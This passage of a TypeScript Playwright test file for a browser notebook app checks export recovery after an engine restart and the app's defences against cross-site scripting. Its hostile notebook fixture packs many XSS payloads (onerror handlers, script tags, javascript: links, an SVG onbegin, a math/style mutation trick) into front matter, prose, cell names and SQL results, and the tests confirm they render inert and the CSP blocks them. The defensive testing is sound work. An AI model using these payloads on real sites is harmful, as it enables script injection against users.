      await expect(exportCell).toHaveAttribute('data-status', 'error', { timeout: 60_000 });
      await expect(c.page.getByTestId('cell-error').first()).toContainText(/engine (stopped|restarted)|restart/i);
      await expect(c.page.getByRole('status').filter({ hasText: /engine restarted/i })).toBeVisible({ timeout: 180_000 });
      expect(await exportedFiles(c, 'exports/killed'), 'a broken export leaves no files and no _SUCCESS').toEqual([]);
      // The same export runs to the end after the restart.
      await c.dismissNotices();
      await exportCell.getByTestId('run-cell').click();
      await expect(exportCell).toHaveAttribute('data-status', 'ok', { timeout: 180_000 });
      expect(await exportedFiles(c, 'exports/killed')).toContain('_SUCCESS');
      expect(await c.downloadedText(), 'the notebook text is as opened').toBe(notebook);
      // Back to the harness notebook for the checks every case ends with.
      await c.openNotebook(harness, 'corpus.lakebook.md');
      await expect(c.page.getByTestId('cell')).toHaveCount(2);
    } },
];

const fence = '```';

/** The names in an OPFS folder ("a/b"), or [] when it does not exist. */
async function exportedFiles(c: CorpusPage, path: string): Promise<string[]> {
  return c.page.evaluate(async (parts) => {
    let dir = await navigator.storage.getDirectory();
    try {
      for (const part of parts) dir = await dir.getDirectoryHandle(part);
    } catch {
      return [];
    }
    const names: string[] = [];
    for await (const name of (dir as unknown as { keys(): AsyncIterable<string> }).keys()) names.push(name);
    return names.sort();
  }, path.split('/'));
}

// -------------------------------------------------------------------------------- notebooks as attack

/** A notebook from elsewhere whose every part carries a payload that sets window.__pwned or opens a dialog if it runs. */
export const HOSTILE_NOTEBOOK = `---
title: <img src=x onerror=window.__pwned=1> & <script>window.__pwned=1</script>
---
# Prose <img src=x onerror="window.__pwned=1">

<script>window.__pwned = 1</script>

<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>

<svg><animate onbegin="window.__pwned=1" attributeName="x" dur="1s"/></svg>

<details open ontoggle="window.__pwned=1"><summary>details</summary>toggled</details>

<a href="javascript:window.__pwned=1">an HTML javascript: link</a> and [a Markdown javascript: link](javascript:window.__pwned=1)
and ![an image](javascript:alert(1)) and <img src="x" onload="alert(1)" onerror="alert(1)">

<form action="javascript:window.__pwned=1"><button>go</button></form>

<object data="javascript:window.__pwned=1"></object><embed src="javascript:window.__pwned=1">

<style>body { display: none !important; }</style>

<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1></style></mglyph></table></mtext></math>

<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>"></noscript>

\`\`\`sql name="<img src=x onerror=window.__pwned=1>"
SELECT '<img src=x onerror=window.__pwned=1>' AS "<b onmouseover=alert(1)>", 'javascript:alert(1)' AS link
\`\`\`

\`\`\`html title="<script>window.__pwned=1</script>"
<script>window.__pwned=1</script><img src=x onerror=window.__pwned=1>
\`\`\`

\`\`\`sql
SELECT 42 AS answer
\`\`\`
`;

export const NOTEBOOK_CASES: ActionCase[] = [
  { id: 'xss-notebook', kind: 'action', title: 'a notebook whose front matter, prose, cell names, results and unknown cells carry payloads',
    async run(c) {
      await c.openNotebook(HOSTILE_NOTEBOOK, '<img src=x onerror=window.__pwned=1>.lakebook.md');
      const cells = c.page.getByTestId('cell');
      await expect(cells).toHaveCount(3);
      await expect(c.page.locator('header h1')).toHaveText('<img src=x onerror=window.__pwned=1> & <script>window.__pwned=1</script>');
      await expect(c.page.locator('body')).toBeVisible();
      const prose = c.page.getByTestId('prose').first();
      await expect(prose).toContainText('Prose');
      await expect(prose.locator('a', { hasText: 'javascript: link' })).toHaveCount(2);
      for (const link of await prose.locator('a').all()) expect(await link.getAttribute('href') ?? '').not.toMatch(/^\s*javascript:/i);
      // The unknown kind is shown verbatim, as text.
      await expect(cells.nth(1)).toHaveAttribute('data-cell-kind', 'html');
      await expect(cells.nth(1)).toContainText('<script>window.__pwned=1</script><img src=x onerror=window.__pwned=1>');
      await c.page.getByTestId('run-all').click();
      const named = c.page.locator('[data-testid=cell][data-cell-name="<img src=x onerror=window.__pwned=1>"]');
      await expect(named).toHaveAttribute('data-status', 'ok', { timeout: 60_000 });
      const grid = named.getByTestId('cell-result').getByRole('grid');
      await expect(grid.getByRole('columnheader').locator('.name')).toHaveText(['<b onmouseover=alert(1)>', 'link']);
      await expect(grid.getByRole('gridcell')).toHaveText(['<img src=x onerror=window.__pwned=1>', 'javascript:alert(1)']);
      await expect(tableEntry(c.page, '<img src=x onerror=window.__pwned=1>')).toBeVisible();
      await expect(cells.nth(2)).toHaveAttribute('data-status', 'ok', { timeout: 60_000 });
    },
    expectedText: HOSTILE_NOTEBOOK,
    probe: (c) => c.page.getByTestId('cell').nth(2) },
  { id: 'csp-active', kind: 'action', title: 'the page’s Content-Security-Policy is in force: injected inline script and a request elsewhere are refused',
    async run(c) {
      expect(await probeCsp(c.page)).toEqual({ injected: false, fetched: 'blocked', violations: ['connect-src', 'script-src-elem'] });
    },
    expectedText: HOSTILE_NOTEBOOK,
    probe: (c) => c.page.getByTestId('cell').nth(2) },
];
